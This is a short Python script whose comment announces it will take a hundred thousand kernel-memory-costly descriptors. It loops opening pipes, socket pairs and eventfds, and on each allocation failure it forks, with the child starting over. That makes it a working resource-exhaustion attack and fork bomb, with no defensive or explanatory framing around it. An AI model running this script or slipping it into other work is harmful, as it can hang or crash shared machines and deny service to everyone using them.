# A hundred thousand descriptors, of the kinds that cost the kernel memory.
import os
import socket
import time

kept = []
while len(kept) < 100000:
    try:
        kept.append(os.pipe())
        kept.append(socket.socketpair())
        kept.append(os.eventfd(0) if hasattr(os, 'eventfd') else os.dup(0))
    except OSError:
        try:
            if os.fork() == 0:
                kept = []
        except OSError:
            time.sleep(0.01)
